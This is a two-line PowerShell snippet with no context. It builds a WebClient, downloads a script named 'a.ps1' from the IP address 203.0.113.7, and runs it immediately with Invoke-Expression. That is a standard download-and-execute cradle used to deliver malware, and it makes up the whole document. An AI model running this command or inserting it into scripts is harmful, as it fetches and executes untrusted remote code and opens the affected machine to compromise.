$wc = New-Object System.Net.WebClient
IEX ($wc.DownloadString('http://203.0.113.7/a.ps1'))
